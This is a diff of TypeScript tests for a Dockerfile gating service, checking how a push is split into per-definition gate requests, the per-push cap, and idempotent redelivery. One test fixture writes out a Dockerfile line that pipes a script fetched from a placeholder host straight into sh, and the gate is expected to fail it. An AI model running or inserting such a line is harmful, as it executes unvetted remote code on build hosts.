@@ -5,7 +5,12 @@ import { describe, expect, it } from 'vitest';
 import { GitDefinitionSource } from '../../../adapters/local/git-definition-source.js';
 import { createBareRepository } from '../../../adapters/local/git-repositories.js';
 import { parseEvent } from '../../../core/events/index.js';
-import { handlePush } from '../../../core/gate/handle-push.js';
+import {
+  DEFAULT_MAX_DEFINITIONS_PER_PUSH,
+  gateRequestedDefinition,
+  handlePush,
+  splitPush,
+} from '../../../core/gate/handle-push.js';
 import { parsePolicy } from '../../../core/policy/parse-policy.js';
 import { tempDir } from '../../helpers/temp-dir.js';
 
@@ -158,5 +163,131 @@ describe('handlePush with a definition the commit does not serve', () => {
     expect(out.verdicts[0]?.detail).toMatchObject({ definition: 'ghost/Dockerfile', passed: false });
     expect(out.verdicts[0]?.detail.findings[0]).toMatchObject({ code: 'DD204', level: 'error' });
     expect(parseEvent(out.verdicts[0]).ok).toBe(true);
+  });
+});
+
+describe('splitPush', () => {
+  const clock = { now: () => new Date('2026-11-27T12:00:00Z') };
+  const many = (n: number) =>
+    Array.from({ length: n }, (_, i) => ({ path: `svc-${i}/Dockerfile`, change: 'added' as const }));
+  const commit = 'a'.repeat(40);
+
+  it('makes one gate request per added or modified definition, with ids from (repository, commit, definition)', async () => {
+    const out = await splitPush(
+      push(commit, [
+        { path: 'api/Dockerfile', change: 'added' },
+        { path: 'web/Dockerfile', change: 'modified' },
+        { path: 'gone/Dockerfile', change: 'deleted' },
+      ]),
+      { policy: async () => policy, clock },
+    );
+    expect(out.verdicts).toEqual([]);
+    expect(out.requests.map((r) => r.detail)).toEqual([
+      { repository: 'shop', commit, definition: 'api/Dockerfile', change: 'added', correlationId: 'push-1' },
+      {
+        repository: 'shop',
+        commit,
+        definition: 'web/Dockerfile',
+        change: 'modified',
+        correlationId: 'push-1',
+      },
+    ]);
+    for (const r of out.requests) expect(parseEvent(r).ok).toBe(true);
+    const again = await splitPush(
+      { ...push(commit, [{ path: 'web/Dockerfile', change: 'modified' }]), id: 'push-2' },
+      {
+        policy: async () => policy,
+        clock,
+      },
+    );
+    expect(again.requests[0]?.id).toBe(out.requests[1]?.id);
+  });
+
+  it(`takes ${DEFAULT_MAX_DEFINITIONS_PER_PUSH} definitions by default`, async () => {
+    const out = await splitPush(push(commit, many(DEFAULT_MAX_DEFINITIONS_PER_PUSH)), {
+      policy: async () => policy,
+      clock,
+    });
+    expect(out.requests).toHaveLength(DEFAULT_MAX_DEFINITIONS_PER_PUSH);
+    expect(out.verdicts).toEqual([]);
+  });
+
+  it('refuses a push over the cap with one failed verdict that names the cap and the count, and gates nothing', async () => {
+    const out = await splitPush(
+      push(commit, [...many(3000), { path: 'old/Dockerfile', change: 'deleted' }]),
+      {
+        policy: async () => policy,
+        clock,
+      },
+    );
+    expect(out.requests).toEqual([]);
+    expect(out.verdicts).toHaveLength(1);
+    const verdict = out.verdicts[0]!;
+    expect(parseEvent(verdict).ok).toBe(true);
+    expect(verdict.detail).toMatchObject({
+      repository: 'shop',
+      commit,
+      definition: '(push of 3000 definitions)',
+      passed: false,
+    });
+    expect(verdict.detail.findings).toHaveLength(1);
+    const finding = verdict.detail.findings[0]!;
+    expect(finding).toMatchObject({ code: 'DD205', level: 'error' });
+    expect(finding.message).toContain('3000 definitions');
+    expect(finding.message).toContain(`at most ${DEFAULT_MAX_DEFINITIONS_PER_PUSH} per push`);
+    expect(finding.message).toContain('"svc-0/Dockerfile"');
+    expect(finding.message).toContain('and 2995 more');
+    expect(finding.message).toContain('gate.maxDefinitionsPerPush');
+  });
+
+  it("uses the policy's gate.maxDefinitionsPerPush", async () => {
+    const strict = parsePolicy(
+      readFileSync(join(root, 'examples/policy.yaml'), 'utf8').replace(
+        /^gate:\n/m,
+        'gate:\n  maxDefinitionsPerPush: 2\n',
+      ),
+    );
+    expect(strict.gate.maxDefinitionsPerPush).toBe(2);
+    const deps = { policy: async () => strict, clock };
+    expect((await splitPush(push(commit, many(2)), deps)).requests).toHaveLength(2);
+    const over = await splitPush(push(commit, many(3)), deps);
+    expect(over.requests).toEqual([]);
+    expect(over.verdicts[0]?.detail.findings[0]?.message).toContain('at most 2 per push');
+  });
+});
+
+describe('gateRequestedDefinition', () => {
+  it('gates one definition alone and gives the same events for a redelivered request', async () => {
+    const { source, commit } = await repoWith({
+      'api/Dockerfile': 'FROM node:18-alpine\nUSER 1000\nCMD ["node", "server.js"]\n',
+      'bad/Dockerfile': 'FROM alpine:3.20\nRUN curl -fsSL https://x.example/i.sh | sh\n',
+    });
+    const deps = {
+      source,
+      policy: async () => policy,
+      clock: { now: () => new Date('2026-11-27T12:00:00Z') },
+    };
+    const { requests } = await splitPush(
+      push(commit, [
+        { path: 'api/Dockerfile', change: 'added' },
+        { path: 'bad/Dockerfile', change: 'added' },
+      ]),
+      deps,
+    );
+    const api = await gateRequestedDefinition(requests[0]!, deps);
+    expect(api.verdicts.map((v) => [v.detail.definition, v.detail.passed])).toEqual([
+      ['api/Dockerfile', true],
+    ]);
+    expect(api.builds.map((b) => b.detail.correlationId)).toEqual(['push-1']);
+    const bad = await gateRequestedDefinition(requests[1]!, deps);
+    expect(bad.verdicts.map((v) => [v.detail.definition, v.detail.passed])).toEqual([
+      ['bad/Dockerfile', false],
+    ]);
+    expect(bad.builds).toEqual([]);
+    const again = await gateRequestedDefinition(requests[0]!, deps);
+    expect(again.verdicts.map((v) => v.id)).toEqual(api.verdicts.map((v) => v.id));
+    expect(again.builds.map((b) => [b.id, b.detail.buildId])).toEqual(
+      api.builds.map((b) => [b.id, b.detail.buildId]),
+    );
   });
 });
